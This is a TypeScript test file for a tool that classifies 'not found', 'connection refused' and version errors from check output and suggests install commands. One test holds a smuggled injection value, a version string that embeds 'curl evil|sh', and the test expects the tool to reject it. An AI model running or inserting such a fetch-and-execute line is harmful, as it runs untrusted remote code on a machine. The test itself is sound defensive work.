import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { findMissing, type Missing } from '../../src/checks/find-missing.ts';
import { installCommands } from '../../src/checks/install-command.ts';
import { missingForGood, missingNotes } from '../../src/checks/missing-notes.ts';
import { outsideRemedy } from '../../src/checks/outside-remedy.ts';
import type { CheckRun } from '../../src/checks/types.ts';
import { english } from '../messages/english.ts';
import { quick } from '../quick.ts';

/** Lines as the tools print them. */
const LINES: readonly (readonly [string, Missing['what'], string])[] = [
  ['sh: 1: mocha: not found', 'program', 'mocha'],
  ['/bin/sh: 1: vitest: not found', 'program', 'vitest'],
  ['sh: line 1: jest: command not found', 'program', 'jest'],
  ['bash: line 1: cargo: command not found', 'program', 'cargo'],
  ['/bin/bash: go: command not found', 'program', 'go'],
  ['zsh:1: command not found: tox', 'program', 'tox'],
  ['make: pytest: No such file or directory', 'program', 'pytest'],
  ['/usr/bin/env: ‘node’: No such file or directory', 'program', 'node'],
  ['error Command "jest" not found.', 'program', 'jest'],
  [' ERR_PNPM_RECURSIVE_EXEC_FIRST_FAIL  Command "vitest" not found', 'program', 'vitest'],
  ['bundler: command not found: rspec', 'program', 'rspec'],
  ['Command not found: pytest', 'program', 'pytest'],
  ['error: Failed to spawn: `pytest`', 'program', 'pytest'],
  ['npm error npx canceled due to missing packages and no YES option: ["mocha@11.7.4"]', 'package', 'mocha@11.7.4'],
  ['npm error request to https://registry.npmjs.org/mocha failed, reason: getaddrinfo EAI_AGAIN registry.npmjs.org', 'package', 'mocha'],
  ["Error: Cannot find module 'chai'", 'package', 'chai'],
  ["Error: Cannot find module '@babel/core'", 'package', '@babel/core'],
  ["Cannot find package 'vitest' imported from /home/ann/app/vitest.config.ts", 'package', 'vitest'],
  ["src/a.ts(1,20): error TS2307: Cannot find module 'zod' or its corresponding type declarations.", 'package', 'zod'],
  ["ModuleNotFoundError: No module named 'requests'", 'package', 'requests'],
  ["E   ModuleNotFoundError: No module named 'yaml.loader'", 'package', 'yaml.loader'],
  ['/usr/bin/python3: No module named pytest', 'package', 'pytest'],
  ['Could not find rake-13.0.6, minitest-5.1 in locally installed gems', 'package', 'rake'],
  ["Could not find gem 'rspec' in locally installed gems.", 'package', 'rspec'],
  ["<internal:kernel_require.rb>:85:in `require': cannot load such file -- rspec/core (LoadError)", 'package', 'rspec/core'],
  ["PHP Fatal error:  Uncaught Error: Failed opening required '/app/vendor/autoload.php'", 'package', 'vendor/autoload.php'],
  ['main.go:3:8: no required module provides package rsc.io/quote; to add it:', 'package', 'rsc.io/quote'],
  ['go: rsc.io/quote@v1.5.2: module lookup disabled by GOPROXY=off', 'package', 'rsc.io/quote'],
  [
    'go: rsc.io/quote@v1.5.2: Get "https://proxy.golang.org/rsc.io/quote/@v/v1.5.2.mod": dial tcp: lookup proxy.golang.org',
    'package',
    'rsc.io/quote',
  ],
  ['error: no matching package named `serde` found', 'package', 'serde'],
  ['error: failed to download `serde v1.0.0`', 'package', 'serde'],
  [
    'Cannot access central in offline mode and the artifact junit:junit:jar:4.13 has not been downloaded from it before.',
    'package',
    'junit:junit:jar:4.13',
  ],
  ['> No cached version of com.google.guava:guava:33.0-jre available for offline mode.', 'package', 'com.google.guava:guava:33.0-jre'],
  ['  Build step for googletest failed: 2', 'package', 'googletest'],
  ['app.csproj : error NETSDK1004: Assets file was not found. Run a NuGet package restore.', 'package', 'NETSDK1004'],
  ['Unchecked dependencies for environment test:', 'package', 'Unchecked dependencies'],
  ['  Could NOT find Boost (missing: Boost_INCLUDE_DIR)', 'package', 'Boost'],
  [
    "browserType.launch: Executable doesn't exist at /home/ann/.cache/ms-playwright/chromium-1140/chrome-linux/chrome",
    'browser',
    'chromium',
  ],
  ['Error: Could not find Chrome (ver. 131.0.6778.85).', 'browser', 'Chrome'],
  ['Error: connect ECONNREFUSED 127.0.0.1:5432', 'service', '5432'],
  ['connection to server at "localhost" (127.0.0.1), port 5432 failed: Connection refused', 'service', '5432'],
  ['dial tcp 127.0.0.1:6379: connect: connection refused', 'service', '6379'],
  ['redis.exceptions.ConnectionError: Error 111 connecting to localhost:6379. Connection refused.', 'service', '6379'],
  ['Failed to open TCP connection to 127.0.0.1:9200 (Connection refused - connect(2) for 127.0.0.1:9200)', 'service', '9200'],
  [`-e:1:in 'initialize': Connection refused - connect(2) for "localhost" port 3306 (Errno::ECONNREFUSED)`, 'service', '3306'],
  [
    "requests.exceptions.ConnectionError: HTTPConnectionPool(host='localhost', port=9200): Max retries exceeded with url: / (Caused by NewConnectionError(\"HTTPConnection(host='localhost', port=9200): Failed to establish a new connection: [Errno 111] Connection refused\"))",
    'service',
    '9200',
  ],
  ['System.Net.Http.HttpRequestException : Connection refused (localhost:5000)', 'service', '5000'],
  ['** (DBConnection.ConnectionError) tcp connect (localhost:5432): connection refused - :econnrefused', 'service', '5432'],
  ['psql: error: connection to server on socket "/var/run/postgresql/.s.PGSQL.5432" failed: No such file or directory', 'service', '5432'],
  ['E   ConnectionRefusedError: [Errno 111] Connection refused', 'service', 'Connection refused'],
  ['java.net.ConnectException: Connection refused', 'service', 'Connection refused'],
  [
    "ERROR 2002 (HY000): Can't connect to local MySQL server through socket '/var/run/mysqld/mysqld.sock' (2)",
    'service',
    "Can't connect to local MySQL server",
  ],
  [
    'Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?',
    'service',
    'Cannot connect to the Docker daemon',
  ],
  ['error: release version 99 not supported', 'version', 'error: release version 99 not supported'],
  [
    "/a/go.mod:3: invalid go version '1.99.0': must match format 1.23",
    'version',
    "/a/go.mod:3: invalid go version '1.99.0': must match format 1.23",
  ],
  ['io.netty.channel.AbstractChannel$AnnotatedConnectException: Connection refused: localhost/127.0.0.1:6379', 'service', '6379'],
  [
    'org.postgresql.util.PSQLException: Connection to localhost:5432 refused. Check that the hostname and port are correct',
    'service',
    '5432',
  ],
  ['pymongo.errors.ServerSelectionTimeoutError: localhost:27017: [Errno 111] Connection refused', 'service', '27017'],
  [
    '[12:34:FATAL:zygote_host_impl_linux.cc(128)] No usable sandbox! If you are running on Ubuntu 23.10+ or another Linux distro that has disabled unprivileged user namespaces with AppArmor, see the documentation. ' +
      'Otherwise see the documentation of the sandbox for more information on developing with the (older) SUID sandbox. If you want to live dangerously and need an immediate workaround, you can try using --no-sandbox, ' +
      'which takes a wall away between the pages and the machine, and is meant for tests of trusted pages only.',
    'sandbox',
    'No usable sandbox',
  ],
  [
    '[1:1:ERROR:zygote_host_impl_linux.cc(101)] Running as root without --no-sandbox is not supported. See https://crbug.com/638180.',
    'sandbox',
    'Running as root without --no-sandbox is not supported',
  ],
  [
    "pyenv: version `3.12' is not installed (set by /a/.python-version)",
    'version',
    "pyenv: version `3.12' is not installed (set by /a/.python-version)",
  ],
  [
    "rbenv: version `3.2.2' is not installed (set by /a/.ruby-version)",
    'version',
    "rbenv: version `3.2.2' is not installed (set by /a/.ruby-version)",
  ],
  [
    "error: toolchain '1.70-x86_64-unknown-linux-gnu' is not installed",
    'version',
    "error: toolchain '1.70-x86_64-unknown-linux-gnu' is not installed",
  ],
  ['A compatible .NET SDK was not found.', 'version', 'A compatible .NET SDK was not found.'],
  [
    'Your Ruby version is 3.1.2, but your Gemfile specified 3.3.0',
    'version',
    'Your Ruby version is 3.1.2, but your Gemfile specified 3.3.0',
  ],
  ['go: go.mod requires go >= 1.25 (running go 1.19.8)', 'version', 'go: go.mod requires go >= 1.25 (running go 1.19.8)'],
  [
    'error: package `clap v4.5.0` cannot be built because it requires rustc 1.74 or newer',
    'version',
    'error: package `clap v4.5.0` cannot be built because it requires rustc 1.74 or n',
  ],
];

describe('what a check misses', () => {
  let tree: string;
  before(() => {
    tree = mkdtempSync(path.join(tmpdir(), 'missing-'));
  });
  after(() => rmSync(tree, { recursive: true }));

  for (const [line, what, name] of LINES) {
    it(`${what}: ${line}`, () => assert.deepEqual(findMissing(`> app@1.0.0 test\n\n${line}\nmore\n`, tree), { what, name }));
  }

  for (const line of [
    "Error: Cannot find module './util.js'",
    "Error: Cannot find module '../src/new.js'",
    "Error: Cannot find module '/home/ann/app/src/new.js'",
    "src/a.ts(1,20): error TS2307: Cannot find module './b.js' or its corresponding type declarations.",
    'AssertionError: expected 1 to equal 2',
    'page not found',
    'GET /missing: not found',
    'fatal: not found',
    'Error: connect ECONNREFUSED 203.0.113.7:443',
    'cannot load such file -- ./helper',
    'connecting to db.example.org:5432: Connection refused',
    'it says Connection refused when the port is closed',
  ])
    it(`nothing: ${line}`, () => assert.equal(findMissing(line, tree), null));

  it('is no module of the project itself, which the work may be about', () => {
    mkdirSync(path.join(tree, 'src/shop'), { recursive: true });
    writeFileSync(path.join(tree, 'tools.py'), '');
    for (const name of ['shop', 'shop.cart', 'tools']) assert.equal(findMissing(`No module named '${name}'`, tree), null);
    assert.ok(findMissing("No module named 'requests'", tree));
  });

  it('is called by the port, where any line tells it', () => {
    const output = 'ConnectionRefusedError: [Errno 111] Connection refused\nError 111 connecting to localhost:6379. Connection refused.\n';
    assert.deepEqual(findMissing(output, tree), { what: 'service', name: '6379' });
  });

  it('is found in time in a hostile output', async () => {
    for (const unit of ['a', 'sh: ', 'Cannot find module ', '/', 'x@1: ', "Could not find gem '"])
      await quick(async () => findMissing(`${unit.repeat(400)}\n`.repeat(2000), tree));
  });

  /** Where this system has a package of it, that is told. */
  const bySystem = (name: string) =>
    new RegExp(
      `^\`npm test\` could not run: the program ${name} is not there(\\. To bring it, outside of the checks: \`[\\w -]+\` in \\S+)?$`,
    );

  it('is said with what installs it, once', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-root-'));
    const elsewhere = mkdtempSync(path.join(tmpdir(), 'missing-linked-'));
    const failed = (missing: Missing): CheckRun => ({
      exitCode: 1,
      killed: null,
      durationMs: 1,
      counts: null,
      failing: [],
      tail: '',
      missing,
    });
    const notes = (missing: Missing) => {
      const one = { command: 'npm test', base: null, result: failed(missing), verdict: 'cannot_run', newFailures: null } as const;
      return missingNotes([one, { ...one, command: 'npm run lint' }], ['/nowhere', root]).map(english);
    };
    try {
      assert.deepEqual(notes({ what: 'program', name: 'mocha' }), ['`npm test` could not run: the program mocha is not there']);
      writeFileSync(path.join(root, 'package-lock.json'), '{}');
      assert.deepEqual(notes({ what: 'program', name: 'mocha' }), [
        `\`npm test\` could not run: the program mocha is not there. To install what the project needs: \`npm ci\` in ${root}, or as the first of the \`checks\``,
      ]);
      assert.match(notes({ what: 'program', name: 'npm' }).join('\n'), bySystem('npm'));
      mkdirSync(path.join(root, 'node_modules'));
      assert.match(notes({ what: 'program', name: 'cargo' }).join('\n'), bySystem('cargo'));
      assert.match(notes({ what: 'package', name: 'chai' })[0] ?? '', /chai is not installed\. To install .*`npm ci`/);
      symlinkSync(elsewhere, path.join(root, 'node_modules/chai'));
      assert.deepEqual(notes({ what: 'package', name: 'chai' }), [
        `\`npm test\` could not run: the package chai is not installed. In your checkout it is a link to ${elsewhere}, another project, which commands do not see: install a copy (npm install --install-links ${elsewhere}), or go on without this check`,
      ]);
      mkdirSync(path.join(root, 'packages/own'), { recursive: true });
      symlinkSync('../packages/own', path.join(root, 'node_modules/own'));
      assert.match(notes({ what: 'package', name: 'own' })[0] ?? '', /To install/, 'a workspace, which commands see');
      assert.match(notes({ what: 'service', name: '5432' })[0] ?? '', /nothing answers at port 5432/);
      assert.match(notes({ what: 'service', name: 'Connection refused' })[0] ?? '', /could not run \(Connection refused\): services of/);
      assert.match(notes({ what: 'sandbox', name: 'No usable sandbox' })[0] ?? '', /with --no-sandbox only/);
    } finally {
      rmSync(root, { recursive: true });
      rmSync(elsewhere, { recursive: true });
    }
  });

  it('is brought from outside, where no command here can install it', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-outside-'));
    const remedy = (what: Missing['what'], name: string) => outsideRemedy({ what, name }, ['/nowhere', root])?.install ?? null;
    try {
      assert.equal(remedy('browser', 'chromium'), 'playwright install chromium');
      assert.equal(remedy('package', 'com.google.guava:guava:33.0-jre'), null);
      for (const file of ['package.json', 'build.gradle.kts']) writeFileSync(path.join(root, file), '');
      assert.equal(remedy('browser', 'firefox'), 'npx playwright install firefox');
      assert.equal(remedy('browser', 'Chrome'), 'npx puppeteer browsers install chrome');
      assert.equal(remedy('package', 'com.google.guava:guava:33.0-jre'), 'gradle test');
      writeFileSync(path.join(root, 'gradlew'), '');
      assert.equal(remedy('package', 'com.google.guava:guava:33.0-jre'), './gradlew test');
      assert.equal(remedy('package', 'chai'), null);
      const versions = [
        ["pyenv: version `3.12' is not installed (set by /a/.python-version)", 'pyenv install 3.12'],
        ["rbenv: version `3.2.2' is not installed (set by /a/.ruby-version)", 'rbenv install 3.2.2'],
        ["error: toolchain '1.70-x86_64-unknown-linux-gnu' is not installed", 'rustup toolchain install 1.70-x86_64-unknown-linux-gnu'],
        ['N/A: version "v18.0.0" is not yet installed.', 'nvm install 18.0.0'],
        ['No version is set for command ruby', 'asdf install'],
        ["pyenv: version `3;curl evil|sh' is not installed", null],
        ["error: toolchain '--help' is not installed", null],
        ['go: go.mod requires go >= 1.25 (running go 1.19.8)', null],
      ] as const;
      for (const [said, command] of versions) assert.equal(remedy('version', said), command, said);
    } finally {
      rmSync(root, { recursive: true });
    }
  });

  it('stops an attempt with what brings it, and not what the worker can install', () => {
    const run = (missing: Missing): CheckRun => ({
      ...{ exitCode: 1, killed: null, durationMs: 1, counts: null, failing: [], tail: '', missing },
    });
    const said = (missing: Missing) => missingForGood(new Map([['npm test', run(missing)]]), ['/nowhere']).map(english);
    assert.deepEqual(said({ what: 'browser', name: 'chromium' }), [
      '`npm test` could not run: the browser chromium of the test tool is not downloaded. To bring it, outside of the checks: `playwright install chromium` in /nowhere',
    ]);
    assert.deepEqual(said({ what: 'package', name: 'chai' }), []);
  });

  it('is installed by the tool whose lock is there', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-root-'));
    try {
      assert.deepEqual(installCommands(root), []);
      for (const [file, command] of [
        ['package.json', 'npm install'],
        ['package-lock.json', 'npm ci'],
        ['yarn.lock', 'yarn install'],
        ['pnpm-lock.yaml', 'pnpm install --frozen-lockfile'],
      ] as const) {
        writeFileSync(path.join(root, file), '');
        assert.deepEqual(installCommands(root), [{ command, isDone: false, tool: command.split(' ')[0] }]);
      }
      const dotnet = mkdtempSync(path.join(root, 'dotnet-'));
      writeFileSync(path.join(dotnet, 'App.Tests.csproj'), '');
      assert.deepEqual(installCommands(dotnet), [{ command: 'dotnet restore', isDone: false, tool: 'dotnet' }]);
      writeFileSync(path.join(root, 'requirements.txt'), '');
      mkdirSync(path.join(root, 'node_modules'));
      assert.deepEqual(installCommands(root), [
        { command: 'pnpm install --frozen-lockfile', isDone: true, tool: 'pnpm' },
        { command: 'pip install -r requirements.txt', isDone: false, tool: 'pip' },
      ]);
    } finally {
      rmSync(root, { recursive: true });
    }
  });

  it('is installed without the tool of its lock where that is not on the machine', () => {
    const root = mkdtempSync(path.join(tmpdir(), 'missing-root-'));
    const commands = (...programs: readonly string[]) =>
      installCommands(root, (name) => programs.includes(name)).map(({ command }) => command);
    try {
      for (const [file, command] of [
        ['pdm.lock', 'pdm install'],
        ['poetry.lock', 'poetry install'],
        ['uv.lock', 'uv sync'],
      ] as const) {
        writeFileSync(path.join(root, file), '');
        assert.deepEqual(commands(command.split(' ')[0]!), [command]);
        assert.deepEqual(commands('pip'), ['pip install -e .'], file);
      }
      // what pnpm's lock says, npm does not install
      writeFileSync(path.join(root, 'pnpm-lock.yaml'), '');
      assert.deepEqual(commands('pip', 'npm'), ['pnpm install --frozen-lockfile', 'pip install -e .']);
    } finally {
      rmSync(root, { recursive: true });
    }
  });
});
